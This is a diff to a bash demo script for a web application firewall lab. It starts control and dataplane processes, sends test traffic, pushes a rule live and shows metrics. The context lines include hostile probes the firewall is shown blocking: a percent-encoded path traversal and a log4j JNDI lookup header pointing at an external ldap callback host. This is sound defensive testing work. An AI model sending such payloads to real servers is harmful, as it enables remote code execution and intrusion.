@@ -1,11 +1,12 @@
 #!/usr/bin/env bash
 # The README's first command: sets the machine up, builds, brings up the lab (client,
-# appliance, origin in network namespaces), starts bulwark-dataplane between them and
-# shows traffic going through it: curl over IPv4 and IPv6, a login that fails and one
-# that works, a short wrk run; with the shipped rule packs loaded it then stops a
-# scanner, a path traversal and a log4j probe and shows the events they wrote, then the
-# appliance's own counters. Tears the lab down at the end unless --keep is given (then:
-# LAB=demo tools/lab/lab.sh down).
+# appliance, origin in network namespaces), starts bulwark-control (with the shipped rule
+# packs as version 1) and bulwark-dataplane between them, and shows traffic going
+# through: curl over IPv4 and IPv6, a login that fails and one that works, a short wrk
+# run; then it stops a scanner, a path traversal and a log4j probe, shows the events
+# through bulwarkctl, pushes a new rule while traffic flows, and shows the appliance's
+# status, workers and Prometheus metrics. Tears the lab down at the end unless --keep is
+# given (then: LAB=demo tools/lab/lab.sh down).
 set -euo pipefail
 ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
 cd "$ROOT"
@@ -18,10 +19,14 @@ bash tools/setup.sh
 ninja -C build >/dev/null
 RUN=${LAB_RUN:-/run/bulwark-lab}/demo-files
 mkdir -p "$RUN"
-build/control/bulwark-rules compile rules/packs/*.yaml -o "$RUN/rules.bwb"
 ((KEEP)) || trap '"$LABSH" down; rm -rf "$RUN"' EXIT
 "$LABSH" up
-"$LABSH" start-dataplane --main-core 0 --workers 1 --rules "$RUN/rules.bwb" --events "$RUN/events.jsonl"
+packs=()
+for f in rules/packs/*.yaml; do packs+=(--initial-rules "$f"); done
+"$LABSH" start-control "${packs[@]}"
+"$LABSH" start-dataplane --main-core 0 --workers 1
+CTL="build/control/bulwarkctl --socket ${LAB_RUN:-/run/bulwark-lab}/demo/control.sock"
+for ((i = 0; i < 50; i++)); do $CTL status 2>/dev/null | grep -q "^rules .*version 1," && break; sleep 0.1; done
 
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 client() { "$LABSH" client "$@"; }
@@ -50,20 +55,30 @@ attempt "percent-encoded path traversal" --path-as-is 'http://198.18.0.2/static/
 attempt "log4j lookup in a header" -A 'Mozilla/5.0' -H 'X-Api-Version: ${jndi:ldap://x.oast.fun/a}' http://198.18.0.2/
 attempt "the same client, clean request" -A 'Mozilla/5.0' http://198.18.0.2/api/v1/products/3
 sleep 0.3
-say "events written by the appliance ($RUN/events.jsonl)"
-python3 -c 'import collections, json, sys
-events = [json.loads(l) for l in open(sys.argv[1])]
-print("events by rule:")
-for (rid, name, action, enforced), n in collections.Counter(
-        (e.get("rule", {}).get("id"), e.get("rule", {}).get("name", e["type"]), e.get("action"), e.get("enforced"))
-        for e in events).most_common():
-    print(f"  {n:6} x rule {rid} {name!r} {action}", "(enforced)" if enforced else "")
-print("enforced decisions:")
-for e in events:
-    if e.get("enforced"):
-        print(" ", json.dumps(e))' "$RUN/events.jsonl"
-say "the appliance's counters (bulwark-statsdump --shm /demo-stats)"
-build/tools/bulwark-statsdump --shm /demo-stats | python3 tools/lab/stats_summary.py
+say "the appliance's events (bulwarkctl events -n 8)"
+$CTL events -n 8
+say "a new rule while traffic flows (bulwarkctl rules load --add)"
+cat >"$RUN/demo.yaml" <<'YAML'
+rules:
+  - id: 990001
+    name: demo - deny order export
+    action: respond
+    respond: {status: 403, body: "exports are disabled\n"}
+    match: {field: path, prefix: /api/v1/orders/export}
+YAML
+client wrk -t1 -c8 -d4s http://198.18.0.2/api/v1/products/1 >"$RUN/wrk.out" &
+sleep 1
+$CTL rules load --add "$RUN/demo.yaml" --comment "demo: deny exports"
+attempt "GET /api/v1/orders/export" http://198.18.0.2/api/v1/orders/export
+wait
+sed -n '/requests in/p;/Socket errors/p' "$RUN/wrk.out"
+say "bulwarkctl status / workers / config versions"
+$CTL status
+$CTL workers
+$CTL config versions
+say "Prometheus metrics (curl http://198.18.1.1:9108/metrics, in the appliance namespace)"
+"$LABSH" appl curl -s http://198.18.1.1:9108/metrics |
+  grep -E '^bulwark_(info|http_request_verdicts_total|rule_hits_total|rules_bundle_version|flows_active|worker_busy_ratio)' | head -20
 if ((KEEP)); then
-  echo; echo "lab left up: LAB=demo tools/lab/lab.sh client curl http://198.18.0.2/ ; LAB=demo tools/lab/lab.sh down"
+  echo; echo "lab left up: $CTL status; LAB=demo tools/lab/lab.sh client curl http://198.18.0.2/ ; LAB=demo tools/lab/lab.sh down"
 fi
